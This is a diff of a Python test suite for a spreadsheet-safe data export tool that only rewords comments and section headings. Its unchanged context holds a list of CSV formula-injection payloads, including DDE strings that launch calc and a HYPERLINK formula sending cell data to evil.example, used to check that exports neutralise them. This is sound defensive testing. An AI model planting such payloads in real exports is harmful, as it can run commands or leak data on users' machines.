@@ -427,9 +427,9 @@ def test_an_unreadable_file_is_not_exported(tmp_path: Path, monkeypatch: pytest.
     assert left(tmp_path) == []
 
 
-# -- odd data --------------------------------------------------------------------------------------
+# -- unusual data --------------------------------------------------------------------------------------
 
-# OWASP, CSV injection, and the ways around a filter that were seen.
+# CSV injection, from OWASP, and known ways around filters.
 PAYLOADS = (
     "=1+1", "=cmd|' /C calc'!A0", "+1+1", "-2+3+cmd|' /C calc'!D2", "@SUM(1+1)*cmd|' /C calc'!A0", "\t=1+1", "\r=1+1",
     '=HYPERLINK("http://evil.example?x="&A1,"click")', "=1+1;", '"=1+1"', "'=1+1", " =1+1", "＝1+1", "=1+1\n=2",
@@ -450,7 +450,7 @@ def test_no_cell_of_an_export_runs_in_a_spreadsheet(tmp_path: Path, kind: str, l
     rules = tmp_path / "policy.toml"
     rules.write_text('[[column]]\nname = "=tier"\naction = "keep"\nvalues = ["=1+1", "-2", "gold"]\n')
     frame = frame.with_columns(pl.Series("=tier", (["=1+1", "-2", "gold", None] * rows)[:rows]))
-    # An account of each row's own, so that frequent tags are frequent among customers.
+    # Each row has its own account, so that frequent tags are frequent among customers.
     frame = frame.with_columns(account_name=pl.Series([f"{text}{n}" for n, text in enumerate(texts)]))
     secret = ["customer_full_name", "customer_name", "email", "mobile", "account_manager"]
     frame = frame.with_columns(pl.lit("x").alias(name) for name in secret)
@@ -571,7 +571,7 @@ def test_masked_values_become_null_and_are_counted(tmp_path: Path) -> None:
     assert read(done.path)["customer_name"].null_count() == 200
 
 
-# -- a place to write ------------------------------------------------------------------------------
+# -- targets ------------------------------------------------------------------------------
 
 
 def test_a_file_is_replaced_only_with_overwrite_and_a_source_never(tmp_path: Path) -> None:
@@ -670,7 +670,7 @@ def test_a_folder_that_cannot_be_written_is_refused() -> None:
     frame = annotated()
     with tempfile.TemporaryDirectory() as folder:
         Path(folder).chmod(0o555)
-        # Root writes everywhere: it has to be somebody else for a moment.
+        # Root can write everywhere, so change the user temporarily.
         before, other = os.geteuid(), os.geteuid() or 65534
         os.seteuid(other)
         try:
@@ -699,7 +699,7 @@ for line in sys.stdin:
     print(pid, flush=True)
     print(os.waitpid(pid, 0)[1], flush=True)
 """
-"""Has everything imported and no thread yet: a copy of it is at work at once."""
+"""A process with all imports and without threads, so that its forks start quickly."""
 
 
 def state(target: Path) -> str:
@@ -759,7 +759,7 @@ def test_a_kill_at_any_moment_leaves_a_whole_export_or_none(tmp_path: Path) -> N
     assert state(target) == "whole"
 
 
-# -- what errors and logs say ----------------------------------------------------------------------
+# -- texts of errors and logs ----------------------------------------------------------------------
 
 
 def held(error: BaseException | None) -> str:
@@ -798,7 +798,7 @@ def test_an_error_quotes_no_cell_and_no_key_and_leaves_nothing(
     with pytest.raises(InvitekitError) as refused:
         ik.export(spoilt()[how], tmp_path / "out.parquet", key=KEY)
     told = "".join(traceback.format_exception(refused.value)) + caplog.text + "".join(capfd.readouterr())
-    # The traceback shows lines of this test; what is said must not come from a cell.
+    # The traceback shows lines of this test; other texts must not be from a cell.
     said = str(refused.value) + held(refused.value) + caplog.text + told.rpartition("InvitekitError")[2]
     assert how == "no frame" or refused.value.__context__ is None, "no error of an engine travels with ours"
     assert "Hint: " in str(refused.value)
@@ -939,7 +939,7 @@ def test_a_missing_or_invalid_key_file_is_rejected(alone: Path) -> None:
     assert "secret words" not in str(refused.value)
 
 
-# -- who is counted --------------------------------------------------------------------------------
+# -- counted customers --------------------------------------------------------------------------------
 
 
 def alone_in(cells: int, columns: dict) -> pl.DataFrame:
@@ -970,7 +970,7 @@ def test_counts_of_masked_records_are_refused_and_say_what_to_do(tmp_path: Path)
     assert left(tmp_path) == []
 
 
-# -- what the engines may keep or tell -------------------------------------------------------------
+# -- engines -------------------------------------------------------------
 
 
 def test_records_are_spilled_to_a_private_folder_that_is_removed(
